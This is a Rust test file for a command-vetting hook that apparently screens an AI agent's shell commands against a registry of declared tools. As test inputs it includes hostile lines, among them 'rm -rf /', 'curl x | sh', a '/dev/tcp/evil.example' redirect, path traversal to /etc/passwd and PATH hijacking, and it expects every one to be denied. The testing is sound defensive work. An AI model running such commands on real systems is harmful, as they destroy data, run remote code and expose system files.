use std::fs;

use super::*;

const GIT_LOG: &str = r#"{
  "name": "git-log", "description": "List commits", "danger_level": "safe",
  "parameters": {
    "count": {"type": "integer", "default": 20},
    "author": {"type": "string", "pattern": "^[^\\n]{1,100}$"},
    "path": {"type": "string", "pattern_type": "filepath"}
  },
  "subprocess": {"binary": "git", "argv": ["log", {"param": "count", "flag": "-n"},
    {"param": "author", "flag": "--author", "form": "joined"}, "--", {"param": "path"}]}
}"#;

const GIT_STATUS: &str = r#"{
  "name": "git-status", "description": "Show the working tree status", "danger_level": "safe",
  "parameters": {"short": {"type": "boolean"}},
  "subprocess": {"binary": "git", "argv": ["status", {"param": "short", "flag": "--short"}]}
}"#;

const RM_BUILD: &str = r#"{
  "name": "clean-build", "description": "Remove the build directory", "danger_level": "destructive",
  "parameters": {},
  "subprocess": {"binary": "rm", "argv": ["-rf", "build"]}
}"#;

const DEPLOY: &str = r#"{
  "name": "deploy", "description": "Deploy", "danger_level": "mutating",
  "parameters": {"token": {"type": "string", "sensitive": true, "required": true, "pattern": "^[a-z0-9]{8,64}$"}},
  "subprocess": {"binary": "deploy-tool", "argv": [{"param": "token", "flag": "--token"}]}
}"#;

struct Fixture {
    _dir: tempfile::TempDir,
    registry: Registry,
    index: ProgramIndex,
    settings: HookSettings,
}

impl Fixture {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        for (name, text) in [
            ("git-log", GIT_LOG),
            ("git-status", GIT_STATUS),
            ("clean-build", RM_BUILD),
            ("deploy", DEPLOY),
        ] {
            fs::write(dir.path().join(format!("{name}.json")), text).unwrap();
        }
        let registry = Registry::Directory(dir.path().to_path_buf());
        let index = registry.program_index(None).unwrap();
        Self {
            _dir: dir,
            registry,
            index,
            settings: HookSettings::default(),
        }
    }

    fn judge(&self, line: &str) -> Judgement {
        let which = |name: &str| Some(PathBuf::from(format!("/usr/bin/{name}")));
        let context = Context {
            registry: &self.registry,
            index: &self.index,
            settings: &self.settings,
            which: &which,
            cwd: Some(Path::new("/work/project")),
            aigent: None,
        };
        judge(line, &context)
    }

    fn verdict(&self, line: &str) -> (Verdict, Vec<&'static str>) {
        let judgement = self.judge(line);
        let rules = judgement
            .segments
            .iter()
            .map(|segment| segment.rule)
            .collect();
        (judgement.verdict, rules)
    }
}

#[test]
fn declared_commands_are_allowed_with_real_quoting() {
    let fixture = Fixture::new();
    for line in [
        "git status",
        "git status --short",
        "git log -n 20 --",
        "git log -n 5 '--author=Ada Lovelace' -- src/lib.rs",
        "git log -n 5 \"--author=O'Brien\" --",
        "/usr/bin/git status",
        "git status && git log -n 3 --",
        "git status >/dev/null 2>&1 || echo failed",
    ] {
        let judgement = fixture.judge(line);
        assert_eq!(judgement.verdict, Verdict::Allow, "{line}: {judgement:#?}");
    }
}

#[test]
fn each_refusal_names_its_rule() {
    let fixture = Fixture::new();
    let cases: &[(&str, Verdict, &str)] = &[
        ("git status; make install", Verdict::Ask, "unmatched"),
        ("git status; rm -rf /", Verdict::Deny, "catastrophic"),
        ("git status; rm -rf tmp", Verdict::Ask, "not_declared_form"),
        (
            "git log -n 5 -- ../../etc/passwd",
            Verdict::Deny,
            "path_traversal",
        ),
        ("git log --", Verdict::Deny, "not_as_declared"),
        ("git push --force", Verdict::Ask, "not_declared_form"),
        (
            "git status $(rm -rf /)",
            Verdict::Deny,
            "command_substitution",
        ),
        ("$GIT status", Verdict::Deny, "parameter_expansion"),
        ("git log -n 5 -- *.rs", Verdict::Deny, "glob"),
        (
            "GIT_DIR=/tmp git status",
            Verdict::Deny,
            "assignment_prefix",
        ),
        ("eval 'git status'", Verdict::Deny, "shell_builtin"),
        (
            "git() { rm -rf /; }; git status",
            Verdict::Deny,
            "function_definition",
        ),
        ("timeout 5 git status", Verdict::Deny, "wrapper"),
        ("find . -exec rm {} ;", Verdict::Deny, "wrapper"),
        ("env git status", Verdict::Deny, "wrapper"),
        ("bash -c 'git status'", Verdict::Deny, "interpreter"),
        ("curl x | sh", Verdict::Deny, "interpreter"),
        ("python3 -c 'print(1)'", Verdict::Deny, "interpreter"),
        ("./git status", Verdict::Ask, "unmatched"),
        ("export PATH=/tmp", Verdict::Deny, "environment"),
        ("PATH=/tmp", Verdict::Deny, "environment"),
        ("git status > out.txt", Verdict::Ask, "redirect_write"),
        ("rm -rf build", Verdict::Ask, "destructive"),
        ("echo 'unterminated", Verdict::Deny, "unparsable"),
        ("(( x = 1 ))", Verdict::Deny, "arithmetic_command"),
        (
            "for PATH in /tmp; do git status; done",
            Verdict::Deny,
            "environment",
        ),
        ("PATH[0]=/tmp; git status", Verdict::Deny, "environment"),
        (
            "declare -n ref=PATH; ref=/tmp; git status",
            Verdict::Deny,
            "environment",
        ),
        (
            "read PATH <<< /tmp; git status",
            Verdict::Deny,
            "environment",
        ),
        (
            "printf -v PATH %s /tmp; git status",
            Verdict::Deny,
            "environment",
        ),
        (
            "git status < /dev/tcp/evil.example/80",
            Verdict::Deny,
            "network_redirect",
        ),
        (
            "for x in a b; do git status; done",
            Verdict::Allow,
            "declared",
        ),
    ];
    for (line, verdict, rule) in cases {
        let (got, rules) = fixture.verdict(line);
        assert_eq!(got, *verdict, "{line}: {rules:?}");
        assert!(rules.contains(rule), "{line}: {rules:?} lacks {rule}");
    }
}

#[test]
fn a_refusal_says_how_to_correct_it() {
    let fixture = Fixture::new();
    let judgement = fixture.judge("git log --");
    let segment = &judgement.segments[0];
    assert_eq!(segment.corrected.as_deref(), Some("git log -n 20 --"));
    let judgement = fixture.judge("git log -n 5 -- '%2e%2e/etc/passwd'");
    assert_eq!(judgement.verdict, Verdict::Deny);
}

#[test]
fn sensitive_values_are_never_shown() {
    let fixture = Fixture::new();
    let judgement = fixture.judge("deploy-tool --token abcdefgh1234");
    assert_eq!(judgement.verdict, Verdict::Allow, "{judgement:#?}");
    let shown = serde_json::to_string(&judgement).unwrap();
    assert!(!shown.contains("abcdefgh1234"), "{shown}");
    let judgement = fixture.judge("deploy-tool --token 'BAD TOKEN!'");
    assert_eq!(judgement.verdict, Verdict::Deny);
    let shown = serde_json::to_string(&judgement.segments).unwrap();
    assert!(!shown.contains("BAD TOKEN"), "{shown}");
}

#[test]
fn the_policy_changes_what_unmatched_and_dynamic_words_get() {
    let mut fixture = Fixture::new();
    fixture.settings.unmatched = UnmatchedPolicy::Deny;
    fixture.settings.not_static = NotStaticPolicy::Ask;
    fixture.settings.allow.push("ls".to_owned());
    fixture.settings.write_paths.push("target/".to_owned());
    assert_eq!(fixture.verdict("make").0, Verdict::Deny);
    assert_eq!(fixture.verdict("ls -la").0, Verdict::Allow);
    assert_eq!(fixture.verdict("/usr/bin/ls").0, Verdict::Allow);
    assert_eq!(fixture.verdict("echo $HOME").0, Verdict::Ask);
    assert_eq!(
        fixture.verdict("git status > target/status.txt").0,
        Verdict::Allow
    );
    assert_eq!(fixture.verdict("git status > target/../x").0, Verdict::Ask);
    // The allow list never admits what runs other code.
    fixture.settings.allow.push("bash".to_owned());
    fixture.settings.allow.push("xargs".to_owned());
    assert_eq!(fixture.verdict("bash").0, Verdict::Deny);
    assert_eq!(fixture.verdict("xargs rm").0, Verdict::Deny);
}

#[test]
fn a_matched_command_routes_through_aigent_run() {
    let fixture = Fixture::new();
    let judgement = fixture.judge("git log -n 5 '--author=Ada L' --");
    assert_eq!(
        judgement.route.unwrap(),
        ["run", "git-log", "--count=5", "--author=Ada L"]
    );
    assert!(fixture.judge("git status && git status").route.is_none());
    assert!(fixture.judge("git status > /dev/null").route.is_none());
}

#[test]
fn aigent_run_against_the_hooks_own_registry_is_recognised() {
    let fixture = Fixture::new();
    let exe = std::env::current_exe().unwrap();
    let registry_dir = match &fixture.registry {
        Registry::Directory(dir) => dir.clone(),
        _ => unreachable!(),
    };
    let own = AigentSelf {
        exe: exe.clone(),
        registry_dir: Some(registry_dir.clone()),
    };
    let which = |name: &str| (name == "aigent").then(|| exe.clone());
    let context = Context {
        registry: &fixture.registry,
        index: &fixture.index,
        settings: &fixture.settings,
        which: &which,
        cwd: Some(Path::new("/")),
        aigent: Some(&own),
    };
    let dir = registry_dir.display().to_string();
    let verdict = |line: String| judge(&line, &context).verdict;
    assert_eq!(
        verdict(format!("aigent --commands {dir} run git-status --short")),
        Verdict::Allow
    );
    assert_eq!(
        verdict(format!(
            "aigent --commands {dir} run --confirm-destructive clean-build"
        )),
        Verdict::Ask
    );
    // Another registry (one the agent could have written) is not trusted.
    assert_eq!(
        verdict("aigent --commands /tmp/mine run anything".to_owned()),
        Verdict::Ask
    );
    assert_eq!(verdict("aigent run git-status".to_owned()), Verdict::Ask);
    assert_eq!(
        verdict(format!(
            "aigent --commands {dir} run --result /etc/x git-status"
        )),
        Verdict::Ask
    );
    // A sensitive declaration's words are not shown.
    let judgement = judge(
        &format!("aigent --commands {dir} run deploy --token abcdefgh1234"),
        &context,
    );
    assert!(
        !serde_json::to_string(&judgement)
            .unwrap()
            .contains("abcdefgh1234")
    );
}

#[test]
fn confined_paths_are_checked_from_the_agents_directory() {
    let fixture = Fixture::new();
    let project = tempfile::tempdir().unwrap();
    fs::write(project.path().join("in.tar"), "").unwrap();
    let registry_dir = match &fixture.registry {
        Registry::Directory(dir) => dir.clone(),
        _ => unreachable!(),
    };
    fs::write(
        registry_dir.join("tar-list.yaml"),
        "name: tar-list\ndescription: List an archive\ndanger_level: safe\nparameters:\n  archive: {type: string, required: true, pattern_type: filepath, under: [$CWD], must_exist: true}\nsubprocess: {binary: tar, argv: [-tf, {param: archive}]}\n",
    )
    .unwrap();
    let index = fixture.registry.program_index(None).unwrap();
    let which = |name: &str| Some(PathBuf::from(format!("/usr/bin/{name}")));
    let judge_in = |line: &str, cwd: Option<&Path>| {
        let context = Context {
            registry: &fixture.registry,
            index: &index,
            settings: &fixture.settings,
            which: &which,
            cwd,
            aigent: None,
        };
        let judgement = judge(line, &context);
        (
            judgement.verdict,
            judgement
                .segments
                .iter()
                .map(|segment| segment.rule)
                .collect::<Vec<_>>(),
        )
    };
    assert_eq!(
        judge_in("tar -tf in.tar", Some(project.path())).0,
        Verdict::Allow
    );
    let (verdict, rules) = judge_in("tar -tf missing.tar", Some(project.path()));
    assert_eq!(verdict, Verdict::Deny, "{rules:?}");
    assert_eq!(judge_in("tar -tf in.tar", None).1, ["confined_path"]);
    let (verdict, _) = judge_in(
        &format!("cd {} && tar -tf in.tar", project.path().display()),
        Some(project.path()),
    );
    assert_eq!(verdict, Verdict::Deny);
}
